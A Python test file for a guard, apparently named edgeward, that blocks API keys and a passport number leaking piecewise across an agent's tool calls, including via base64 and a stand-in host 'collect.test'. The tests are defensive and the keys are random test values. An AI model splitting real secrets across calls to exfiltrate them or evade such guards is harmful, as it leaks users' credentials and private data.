"""A secret or a private code that leaves in pieces is seen; what is no piece of one is not."""

from __future__ import annotations

import base64
import random
import string
from typing import Any

import pytest

from edgeward.guards.decide import decide
from edgeward.guards.ledger import History
from edgeward.guards.pieces import MOST, WINDOW, beside, kept, pieces, put_together
from edgeward.guards.verdict import ToolCall
from edgeward.policies.schema import load_policy

from .threads import Thread

KEYS = [
    "sk-proj-" + "".join(random.Random(7).choices(string.ascii_letters + string.digits, k=48)),
    "ghp_" + "".join(random.Random(8).choices(string.ascii_letters + string.digits, k=36)),
    "AKIA" + "".join(random.Random(9).choices(string.ascii_uppercase + string.digits, k=16)),
    "vcp_" + "".join(random.Random(10).choices(string.ascii_letters + string.digits, k=40)),
    "dop_v1_" + "".join(random.Random(11).choices("0123456789abcdef", k=64)),
]
POLICY = load_policy({"version": 2, "default": "allow"})


def parts(text: str, count: int) -> list[str]:
    """The text in so many parts."""
    size = -(-len(text) // count)
    return [text[at : at + size] for at in range(0, len(text), size)]


def words_of(calls: list[dict[str, Any]], policy: Any = POLICY) -> list[str]:
    """The words of calls one after the other; what was let through was sent."""
    sent: tuple[str, ...] = ()
    found = []
    for arguments in calls:
        verdict = decide(policy, ToolCall("fetch", arguments), History(sent=sent))
        found.append(verdict.word)
        if verdict.word == "allow":
            sent = kept(sent, [arguments])
    return found


@pytest.mark.parametrize("key", KEYS)
@pytest.mark.parametrize("count", [2, 3, 5])
@pytest.mark.parametrize(
    "form",
    [
        lambda part: {"q": part},
        lambda part: {"q": f"  {part}\n"},
        lambda part: {"url": f"https://collect.test/?a={part}"},
        lambda part: {"body": f"Hello Bob, here is the next one: {part}, see you soon."},
        lambda part: {"a": ["x", {"b": part}]},
    ],
    ids=["bare", "blanks", "link", "prose", "deep"],
)
def test_a_key_over_successive_calls(key: str, count: int, form: Any) -> None:
    """However it is cut and wrapped: the call that would complete it is blocked."""
    if len(key) // count < 5:
        pytest.skip("pieces this short are not looked for")
    for order in (parts(key, count), parts(key, count)[::-1]):
        words = words_of([form(part) for part in order])
        assert "block" in words
        assert count == 2 or words[0] == "allow"


@pytest.mark.parametrize("count", [2, 3])
def test_encoded_pieces(count: int) -> None:
    """Each part encoded by itself, or the parts of the whole encoded text."""
    whole = base64.b64encode(KEYS[0].encode()).decode()
    each = [base64.b64encode(part.encode()).decode() for part in parts(KEYS[0], count)]
    assert "block" in words_of([{"q": part} for part in parts(whole, count)])
    assert "block" in words_of([{"q": part} for part in each])


def test_a_key_with_spaces_in_one_call() -> None:
    """A beginning of a key and what follows it, a blank or a word between them."""
    first, second, third = parts(KEYS[0], 3)
    for text in (f"{first} {second} {third}", f"{first} and then {second} and {third}"):
        assert words_of([{"q": text}]) == ["block"]


def test_other_calls_between() -> None:
    """What is sent between two halves does not hide them, up to the window."""
    first, second, third = parts(KEYS[0], 3)
    between = [{"q": f"what is new in {year}?"} for year in range(2001, 2011)]
    said = words_of([{"q": first}, *between, {"q": second}, {"q": third}])
    assert said == ["allow"] * 11 + ["block"] * 2


def test_the_value_is_not_shown() -> None:
    """The finding names the secret's kind, and no piece of it (I9)."""
    first, second = KEYS[0][:20], KEYS[0][20:]
    verdict = decide(POLICY, ToolCall("fetch", {"q": second}), History(sent=(first,)))
    assert "openai_key" in verdict.reason
    assert second[:12] not in verdict.explain()


def test_beside_a_secret_that_is_masked() -> None:
    """A tool that runs redacted sends no key in pieces, whatever else is masked in its calls."""
    policy = load_policy({"version": 2, "tools": {"fetch": "redact"}})
    sent: tuple[str, ...] = ()
    words = []
    for part in parts(KEYS[0], 4):
        call = ToolCall("fetch", {"q": part, "token": KEYS[1]})
        verdict = decide(policy, call, History(sent=sent))
        words.append(verdict.word)
        if verdict.word == "redact":
            sent = kept(sent, [next(f.masked for f in verdict.findings if f.masked)])
    assert words[0] == "redact"
    assert "block" in words


@pytest.mark.parametrize("key", KEYS)
@pytest.mark.parametrize("value", ["INV-20391", "2026-11-30", "4111111111111111", "docs/A1b2.md"])
def test_a_whole_secret_takes_no_sibling_along(key: str, value: str) -> None:
    """The call that holds it is refused for it; one beside it has no part in it. One that has is
    refused, too."""
    turn = [{"a": value}, {"token": key}, {"a": key[:14]}, {"a": key[14:]}]
    words = [
        decide(POLICY, ToolCall("fetch", arguments), History(sent=every)).word
        for arguments, every in zip(turn, beside(turn), strict=True)
    ]
    assert words[1:] == ["block"] * 3
    alone = [{"a": value}, {"token": key}]
    verdict = decide(POLICY, ToolCall("fetch", {"a": value}), History(sent=beside(alone)[0]))
    assert verdict.word == "allow"


def test_masks_are_no_pieces() -> None:
    """What is masked in one call after the other makes no key together with a hash."""
    npm = "npm_" + "".join(random.Random(3).choices(string.ascii_letters + string.digits, k=36))
    policy = load_policy({"version": 2, "tools": {"fetch": "redact"}})
    masked, sent = {"token": "[REDACTED:npm_token]", "sha": "9f86d081884c7d659a2feaa0"}, ()
    for _ in range(3):
        verdict = decide(policy, ToolCall("fetch", {**masked, "token": npm}), History(sent=sent))
        assert verdict.word == "redact"
        sent = kept(sent, [masked])


def test_the_pieces_of_a_turn() -> None:
    """Each call is judged beside the pieces of all, unless only it has some."""
    one, two, none = {"q": "a1b2c3"}, {"q": "d4e5f6"}, {"q": "hello"}
    both = ("a1b2c3", "d4e5f6")
    assert beside([one]) == [()]
    assert beside([one, none]) == [(), ("a1b2c3",)]
    assert beside([one, two, none, one]) == [both] * 4


BENIGN: list[list[dict[str, Any]]] = [
    [{"q": "order A-1234-99"}, {"q": "order B-2222-11"}, {"q": "invoice 2026-11-29"}] * 3,
    [{"to": "ann@corp.example", "subject": "Re: Q3", "body": "Hello, " + "see v2.1.3. " * 9}] * 4,
    [{"path": f"src/module_{n}/test_file_{n}.py"} for n in range(12)],
    [{"id": f"{n:08x}-12ab-4cde-8f90-1234567890ab"} for n in range(8)],
    [{"q": "how do keys that start with sk- look?"}, {"q": "weather in Paris on 2026-12-01"}],
    [{"q": "what begins with sk-proj-?"}, *({"q": f"news of {y}"} for y in range(2000, 2012))],
    [{"url": f"https://docs.example/en/3.11/library/os.html#page-{n}"} for n in range(9)],
    [{"sha": "9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08"}] * 3,
    [{"image": base64.b64encode(random.Random(1).randbytes(30_000)).decode()}] * 2,
]  # fmt: skip


@pytest.mark.parametrize("calls", BENIGN, ids=range(len(BENIGN)))
def test_ordinary_calls(calls: list[dict[str, Any]]) -> None:
    """Order numbers, versions, paths, ids, links and images make no key together."""
    assert set(words_of(calls)) == {"allow"}


def private(*sent: Any) -> Thread:
    """A thread in which a passport number was read."""
    thread = Thread({"default": "allow", "private": ["who"], "tools": {"note": "allow"}}, "hello")
    thread.gave("who", {"passport": "X12345678", "name": "Emma Johnson", "note": "calls at 9"})
    return thread


def of_private(thread: Thread, sent: tuple[str, ...], **arguments: Any) -> str:
    """The word for a call of that thread."""
    return decide(
        thread.policy, ToolCall("post", arguments), History(thread.ledger, sent=sent)
    ).word


def test_names_of_programs_are_no_pieces() -> None:
    """Names that begin like a key make none, together with others of the same and earlier calls."""
    names = "report_full_closure _all_values HAVE_FCHMODAT fw_update2 sq_a my_rnd_1 vcp_x1 si_lk"
    calls = [{"old": names[at:], "new": names[:at]} for at in range(0, len(names), 7)]
    assert words_of(calls) == ["allow"] * len(calls)


def test_a_private_code_in_pieces() -> None:
    """Its halves in two calls, in either order, are blocked; other numbers are not."""
    thread = private()
    assert of_private(thread, ("X1234",), text="and 5678") == "block"
    assert of_private(thread, ("5678",), text="X1234") == "block"
    assert of_private(thread, ("X1234",), text="5679") == "allow"
    assert of_private(thread, (), text="X1234") == "allow"
    thread.says("my passport is X12345678")
    assert of_private(thread, ("X1234",), text="5678") == "allow"


def test_long_mails_that_share_words_with_private_notes() -> None:
    """Words are no pieces, and the same greeting twice is none of a note's."""
    thread = private()
    text = "Dear Emma Johnson, thank you for your call at 9. Best regards, the office. " * 30
    assert of_private(thread, pieces({"body": text}), body=text) == "allow"


def test_bounds() -> None:
    """A call gives so many pieces, a thread keeps so many; nothing makes nothing."""
    many = {"q": " ".join(f"a{n}b{n}" for n in range(1000))}
    assert len(pieces(many)) == MOST
    assert len(kept((), [many, {"q": "x9x9"}] * 3)) == WINDOW
    assert list(put_together((), ("a1b2",))) == []
    assert list(put_together(("a1b2",), ())) == []
    assert pieces({"q": "Hello there, old friend"}) == ()
